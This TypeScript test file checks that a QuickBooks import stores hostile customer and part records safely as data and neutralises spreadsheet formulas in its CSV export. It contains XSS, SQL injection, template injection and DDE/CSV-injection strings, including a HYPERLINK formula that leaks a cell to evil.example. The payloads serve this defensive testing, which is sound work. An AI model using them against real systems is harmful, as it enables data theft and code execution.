import {
  type Customer,
  type ImportCategory,
  type ImportJob,
  type ImportRecord,
  type Part,
  PartListSchema,
} from "@app/shared";
import request from "supertest";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { allRecords, runImportToEnd, startWorker } from "../features/imports/imports.testing.js";
import {
  HOSTILE_COMPANY_SPEC,
  addHostileCompany,
  hostile,
} from "../qbo-sandbox/companies/hostile-company.js";
import type { Entity } from "../qbo-sandbox/json.js";
import { connectShop } from "../testing/connect.js";
import { type RunningSandbox, startTestSandbox } from "../testing/sandbox.js";
import { type TestApp, createTestApp } from "../testing/test-app.js";
import { testBackends } from "../testing/test-database.js";

/**
 * Hostile QuickBooks data through the sandbox and the real import: every hostile record is
 * either stored byte for byte or skipped with its reason (docs/product.md: "a bad record never
 * aborts an import"), the ordinary records around it import as usual, and what comes back out
 * (JSON, the records CSV) carries the text as data, never as markup or a formula.
 */
const SHOP = "shop-hostile";

// ── strings ────────────────────────────────────────────────────────────────────────────────
const SCRIPT = "<script>alert(1)</script>";
const IMG = "<img src=x onerror=alert(1)>";
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const CMD = "+cmd|' /C calc'!A0";
const MINUS = "-1+1";
const AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const TAB_FORMULA = "\t=1+1";
const CR_FORMULA = "\r=1+1 after a carriage return";
const SQL = "'; drop table parts; --";
const CONTROLS = "ctl \u0001\u0002\u001b[31m red\u007f\u0085 \u0008end";
const LINES = "line 1\r\nline 2\nline 3\rline 4\tcolumn\fpage\vtab";
const BIDI = "\u202Egnp.exe\u202C invoice \u202Dx\u2066y\u2069";
const ZERO_WIDTH = "zero\u200Bwidth\u200Djoin\uFEFFbom";
const ASTRAL = "🛞 Tire 𝕏 𠜎 👩🏽‍🔧 🏳️‍🌈 \u{10FFFD}";
const TEMPLATE = "{{constructor.constructor('alert(1)')()}} ${7*7} %s%n";
const HUGE_NAME = "Brake pad ".repeat(500); // 5,000 characters (Intuit stops at 100)
const HUGE_TEXT = `${'Ωmega <b>bold</b> & "quoted" 🚗\r\n'.repeat(4_000)}end`; // ~130k chars
const LONG_SKU = "SKU-".repeat(2_500); // 10,000 characters
const NUL = "Oil\u0000Filter";
const LONE_HIGH = "half \uD83D pair";
const LONE_LOW = "\uDC00orphan";

type Expect =
  { stored: Partial<Part> & { vendorName?: string } } | { skipped: string; name?: string };

interface Case {
  entity: Entity;
  expect: Expect;
}

// Ids start at 100: the generated records around them are numbered from 1.
const inv = (id: number, name: string, patch: Entity, expect: Expect): Case => ({
  entity: hostile.inventory(String(id), name, patch),
  expect,
});
const stored = (p: Partial<Part> & { vendorName?: string }): Expect => ({ stored: p });
const skipped = (reason: string, name?: string): Expect => ({
  skipped: `invalid data: ${reason}`,
  ...(name === undefined ? {} : { name }),
});

const VENDOR_ID = "90";
const VENDORS = [hostile.vendor(VENDOR_ID, IMG)];

const INVENTORY: Case[] = [
  inv(
    100,
    SCRIPT,
    { Description: IMG, Sku: '"><svg onload=alert(1)>' },
    stored({ description: SCRIPT, note: IMG, partNumber: '"><svg onload=alert(1)>' }),
  ),
  inv(101, HYPERLINK, { Sku: CMD }, stored({ description: HYPERLINK, partNumber: CMD })),
  inv(102, MINUS, { Description: AT_SUM }, stored({ description: MINUS, note: AT_SUM })),
  inv(103, AT_SUM, {}, stored({ description: AT_SUM })),
  inv(104, TAB_FORMULA, {}, stored({ description: TAB_FORMULA })),
  inv(105, CR_FORMULA, {}, stored({ description: CR_FORMULA })),
  inv(
    106,
    SQL,
    { Sku: "' OR '1'='1", Description: "Robert'); DROP TABLE customers;--" },
    stored({
      description: SQL,
      partNumber: "' OR '1'='1",
      note: "Robert'); DROP TABLE customers;--",
    }),
  ),
  inv(107, CONTROLS, { Description: LINES }, stored({ description: CONTROLS, note: LINES })),
  inv(108, BIDI, { Description: ZERO_WIDTH }, stored({ description: BIDI, note: ZERO_WIDTH })),
  inv(109, ASTRAL, { Sku: "🔧-𝟙𝟚𝟛" }, stored({ description: ASTRAL, partNumber: "🔧-𝟙𝟚𝟛" })),
  inv(
    110,
    HUGE_NAME,
    { Description: HUGE_TEXT, Sku: LONG_SKU },
    stored({ description: HUGE_NAME, note: HUGE_TEXT, partNumber: LONG_SKU }),
  ),
  inv(
    111,
    "Vendor is markup",
    { PrefVendorRef: hostile.vendorRef(VENDOR_ID, IMG) },
    stored({ vendorName: IMG }),
  ),
  inv(
    112,
    TEMPLATE,
    { QtyOnHand: -5.25, ReorderPoint: 0 },
    stored({ description: TEMPLATE, quantityAvailable: "-5.25", criticalQuantity: "0" }),
  ),
  // The largest amount our decimal contract holds (12 digits before the point) goes in exactly.
  inv(
    113,
    "Most expensive part",
    { UnitPrice: 999_999_999_999.99, PurchaseCost: 0.0001, QtyOnHand: 37.5 },
    stored({ retailCost: "999999999999.99", cost: "0.0001", quantityAvailable: "37.5" }),
  ),
  // PostgreSQL text can hold neither a NUL nor half a surrogate pair: skipped, never altered.
  inv(120, NUL, {}, skipped("Name", "Oil\uFFFDFilter")),
  inv(121, LONE_HIGH, {}, skipped("Name", "half \uFFFD pair")),
  inv(122, "NUL in the note", { Description: "a\u0000b" }, skipped("Description")),
  inv(123, "NUL in the Sku", { Sku: "\u0000" }, skipped("Sku")),
  // Numbers our money and quantity columns can't hold exactly: skipped, not rounded. (Node's
  // JSON can't write a 20-digit literal: the sandbox sends what a double keeps of it, which has
  // 17 significant digits and 20 before the point; either is reason enough.)
  inv(
    124,
    "20-digit price",
    { UnitPrice: JSON.parse("12345678901234567890") },
    skipped("UnitPrice"),
  ),
  inv(
    125,
    "20-digit quantity",
    { QtyOnHand: JSON.parse("99999999999999999999") },
    skipped("QtyOnHand"),
  ),
  inv(
    126,
    "Negative 20-digit quantity",
    { QtyOnHand: JSON.parse("-99999999999999999999") },
    skipped("QtyOnHand"),
  ),
  inv(127, "Astronomical cost", { PurchaseCost: 1e300 }, skipped("PurchaseCost")),
  inv(128, "Reorder point 1e21", { ReorderPoint: 1e21 }, skipped("ReorderPoint")),
  inv(129, "NaN price", { UnitPrice: "NaN" }, skipped("UnitPrice")),
  inv(130, "Exponent quantity as text", { QtyOnHand: "1e3" }, skipped("QtyOnHand")),
  inv(131, "Price as an object", { UnitPrice: { value: 1 } }, skipped("UnitPrice")),
];

const simple = (
  id: number,
  type: "NonInventory" | "Service",
  name: string,
  patch: Entity,
  expect: Expect,
): Case => ({ entity: hostile.simple(String(id), type, name, patch), expect });

const NON_INVENTORY: Case[] = [
  simple(
    140,
    "NonInventory",
    AT_SUM,
    { Description: SCRIPT },
    stored({ description: AT_SUM, note: SCRIPT, quantityAvailable: null }),
  ),
  simple(
    141,
    "Service",
    `${MINUS} labour`,
    { Sku: "=1+1" },
    stored({ description: `${MINUS} labour`, partNumber: "=1+1" }),
  ),
  simple(
    142,
    "Service",
    ASTRAL,
    { Description: HUGE_TEXT },
    stored({ description: ASTRAL, note: HUGE_TEXT }),
  ),
  simple(143, "Service", "Labor\u0000", {}, skipped("Name", "Labor\uFFFD")),
  simple(144, "NonInventory", "Disposal fee 1e300", { UnitPrice: 1e300 }, skipped("UnitPrice")),
];

interface CustomerCase {
  entity: Entity;
  expect: { stored: Partial<Customer> } | { skipped: string };
}
const cust = (id: number, display: string, patch: Entity, expect: CustomerCase["expect"]) => ({
  entity: hostile.customer(String(id), display, patch),
  expect,
});

const CUSTOMERS: CustomerCase[] = [
  cust(
    100,
    SCRIPT,
    {
      GivenName: IMG,
      FamilyName: BIDI,
      Notes: HUGE_TEXT,
      PrimaryEmailAddr: { Address: `"${SQL}"@example.com` },
    },
    {
      stored: {
        firstName: IMG,
        lastName: BIDI,
        note: HUGE_TEXT,
        email: `"${SQL}"@example.com`,
        companyName: "",
      },
    },
  ),
  cust(101, HYPERLINK, { CompanyName: HYPERLINK }, { stored: { companyName: HYPERLINK } }),
  // No person or company name: the DisplayName is the company name (docs/product.md).
  cust(102, CMD, {}, { stored: { companyName: CMD } }),
  cust(
    103,
    ASTRAL,
    {
      BillAddr: {
        Line1: MINUS,
        Line2: LINES,
        City: AT_SUM,
        PostalCode: TAB_FORMULA,
        Country: CONTROLS,
      },
    },
    {
      stored: {
        companyName: ASTRAL,
        address1: MINUS,
        address2: LINES,
        city: AT_SUM,
        postalCode: TAB_FORMULA,
        country: CONTROLS,
      },
    },
  ),
  cust(
    104,
    HUGE_NAME.trim(),
    { PrimaryPhone: { FreeFormNumber: "+1 =2+3" } },
    { stored: { companyName: HUGE_NAME.trim(), phone: "+1 =2+3" } },
  ),
  cust(105, "Nul\u0000 Person", {}, { skipped: "invalid data: DisplayName" }),
  cust(106, "Orphan surrogate", { GivenName: LONE_LOW }, { skipped: "invalid data: GivenName" }),
  cust(107, "NUL in the notes", { Notes: "\u0000" }, { skipped: "invalid data: Notes" }),
];

const refOf = (e: Entity) => e.Id as string;
const isStored = <T extends { expect: object }>(c: T) => "stored" in c.expect;

/** RFC 4180, enough for our own download: quoted cells, doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    const next = text[i + 1];
    if (quoted && ch === '"' && next === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (quoted) {
      cell += ch;
    } else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && next === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else {
      cell += ch;
    }
  }
  return rows;
}

describe.each(testBackends())("hostile QuickBooks data on %s", (backend) => {
  let sandbox: RunningSandbox;
  let t: TestApp;
  let stopWorker: () => Promise<void>;
  const jobs = new Map<ImportCategory, ImportJob>();
  const auth = async () => `Bearer ${await t.token(SHOP)}`;
  const get = async (path: string) =>
    request(t.app)
      .get(path)
      .set("authorization", await auth());

  beforeAll(async () => {
    sandbox = await startTestSandbox({ seedDemo: false });
    const company = addHostileCompany(sandbox.state, {
      vendors: VENDORS,
      items: [...INVENTORY, ...NON_INVENTORY].map((c) => c.entity),
      customers: CUSTOMERS.map((c) => c.entity),
    });
    t = await createTestApp(backend, { QBO_SANDBOX_URL: sandbox.url });
    expect((await connectShop(t, SHOP, company.realmId)).status).toBe(200);
    stopWorker = (await startWorker(t)).stop;
    for (const category of ["inventory", "non_inventory", "customers"] as const)
      jobs.set(category, await runImportToEnd(t, SHOP, category));
  }, 60_000);
  afterAll(async () => {
    await stopWorker?.();
    await t?.close();
    await sandbox?.close();
  });

  it.each([
    ["inventory", INVENTORY, HOSTILE_COMPANY_SPEC.inventory],
    [
      "non_inventory",
      NON_INVENTORY,
      HOSTILE_COMPANY_SPEC.nonInventory + HOSTILE_COMPANY_SPEC.service,
    ],
    ["customers", CUSTOMERS, HOSTILE_COMPANY_SPEC.customers],
  ] as const)("finishes the %s import with exact counts", (category, cases, ordinary) => {
    const job = jobs.get(category)!;
    const good = (cases as readonly { expect: object }[]).filter(isStored).length;
    expect(job).toMatchObject({
      status: "succeeded",
      total: cases.length + ordinary,
      processed: cases.length + ordinary,
      imported: good + ordinary,
      updated: 0,
      skipped: cases.length - good,
    });
    expect(job.error).toBeUndefined();
  });

  it("stores every acceptable hostile part byte for byte, and links its vendor", async () => {
    const records = [
      ...(await allRecords(t, SHOP, jobs.get("inventory")!.id)),
      ...(await allRecords(t, SHOP, jobs.get("non_inventory")!.id)),
    ];
    const byRef = new Map(records.map((r) => [r.quickBooksId, r]));
    for (const c of [...INVENTORY, ...NON_INVENTORY]) {
      if (!("stored" in c.expect)) continue;
      const record = byRef.get(refOf(c.entity));
      expect(record, refOf(c.entity)).toMatchObject({ outcome: "imported", name: c.entity.Name });
      const res = await get(`/api/inventory/${record!.recordId}`);
      expect(res.status).toBe(200);
      expect(res.headers["content-type"]).toMatch(/^application\/json/);
      expect(res.headers["x-content-type-options"]).toBe("nosniff");
      const { vendorName, ...fields } = c.expect.stored;
      const part = res.body as Part;
      expect(part).toMatchObject({ ...fields, quickBooksItemRef: refOf(c.entity) });
      if (vendorName !== undefined) expect(part.vendor?.name).toBe(vendorName);
    }
  });

  it("skips what can't be stored exactly, with its reason, and writes nothing for it", async () => {
    for (const [category, cases] of [
      ["inventory", INVENTORY],
      ["non_inventory", NON_INVENTORY],
    ] as const) {
      const records = await allRecords(t, SHOP, jobs.get(category)!.id);
      for (const c of cases) {
        if (!("skipped" in c.expect)) continue;
        const record = records.find((r) => r.quickBooksId === refOf(c.entity));
        expect(record, refOf(c.entity)).toMatchObject({
          outcome: "skipped",
          reason: c.expect.skipped,
          name: c.expect.name ?? c.entity.Name,
        });
        expect(record?.recordId).toBeUndefined();
      }
    }
    // The shop holds exactly the ordinary parts and the stored hostile ones: nothing half-written.
    const refs: string[] = [];
    for (let page = 1; ; page++) {
      const res = await get(`/api/inventory?pageSize=200&page=${page}`);
      const list = PartListSchema.parse(res.body);
      refs.push(...list.items.map((p) => p.quickBooksItemRef ?? "none"));
      if (page * list.pageSize >= list.total) break;
    }
    const storedRefs = [...INVENTORY, ...NON_INVENTORY]
      .filter(isStored)
      .map((c) => refOf(c.entity));
    const ordinary =
      HOSTILE_COMPANY_SPEC.inventory +
      HOSTILE_COMPANY_SPEC.nonInventory +
      HOSTILE_COMPANY_SPEC.service;
    expect(refs).toHaveLength(ordinary + storedRefs.length);
    expect(refs).toEqual(expect.arrayContaining(storedRefs));
    const skippedRefs = [...INVENTORY, ...NON_INVENTORY]
      .filter((c) => !isStored(c))
      .map((c) => refOf(c.entity));
    expect(refs.filter((r) => skippedRefs.includes(r))).toEqual([]);
  });

  it("records stock movements with exact quantities, negative ones included", async () => {
    const records = await allRecords(t, SHOP, jobs.get("inventory")!.id);
    for (const [ref, quantity] of [
      ["112", "-5.25"],
      ["113", "37.5"],
    ]) {
      const id = records.find((r) => r.quickBooksId === ref)!.recordId;
      const res = await get(`/api/inventory/${id}/movements`);
      expect(res.body.items).toMatchObject([
        { delta: quantity, quantityAfter: quantity, reason: "import" },
      ]);
    }
  });

  it("stores hostile customers byte for byte and skips the unstorable ones with reasons", async () => {
    const records = await allRecords(t, SHOP, jobs.get("customers")!.id);
    for (const c of CUSTOMERS) {
      const record = records.find((r) => r.quickBooksId === refOf(c.entity));
      if ("skipped" in c.expect) {
        expect(record, refOf(c.entity)).toMatchObject({
          outcome: "skipped",
          reason: c.expect.skipped,
        });
        expect(record?.recordId).toBeUndefined();
        continue;
      }
      expect(record, refOf(c.entity)).toMatchObject({ outcome: "imported" });
      const res = await get(`/api/customers/${record!.recordId}`);
      expect(res.status).toBe(200);
      expect(res.headers["content-type"]).toMatch(/^application\/json/);
      expect(res.headers["x-content-type-options"]).toBe("nosniff");
      expect(res.body).toMatchObject({
        ...c.expect.stored,
        quickBooksCustomerRef: refOf(c.entity),
      });
    }
    const list = await get("/api/customers?pageSize=200");
    expect(list.body.total).toBe(
      HOSTILE_COMPANY_SPEC.customers + CUSTOMERS.filter(isStored).length,
    );
  });

  it("neutralises spreadsheet formulas in the records CSV and quotes every cell properly", async () => {
    for (const category of ["inventory", "non_inventory", "customers"] as const) {
      const job = jobs.get(category)!;
      const res = await get(`/api/quickbooks/imports/${job.id}/records.csv`);
      expect(res.status).toBe(200);
      expect(res.headers["content-type"]).toMatch(/^text\/csv/);
      expect(res.headers["x-content-type-options"]).toBe("nosniff");
      const rows = parseCsv(res.text.replace(/^\uFEFF/, ""));
      expect(rows[0]).toEqual(["quickbooks_id", "name", "outcome", "reason", "record_id"]);
      const body = rows.slice(1);
      expect(body).toHaveLength(job.total!);
      const records: ImportRecord[] = await allRecords(t, SHOP, job.id);
      const byId = new Map(records.map((r) => [r.quickBooksId, r]));
      for (const [id, name, outcome, reason] of body) {
        const record = byId.get(id!);
        expect(record, id).toBeDefined();
        // OWASP: a cell a spreadsheet would run as a formula starts with an apostrophe instead.
        const neutral = /^[=+\-@\t\r]/.test(record!.name) ? `'${record!.name}` : record!.name;
        expect(name).toBe(neutral);
        expect([outcome, reason]).toEqual([record!.outcome, record!.reason ?? ""]);
        for (const cell of [id, name, outcome, reason]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  it("updates every stored hostile record on a second run and creates nothing", async () => {
    const again = await runImportToEnd(t, SHOP, "inventory");
    const good = INVENTORY.filter(isStored).length;
    expect(again).toMatchObject({
      status: "succeeded",
      imported: 0,
      updated: good + HOSTILE_COMPANY_SPEC.inventory,
      skipped: INVENTORY.length - good,
    });
  });
});
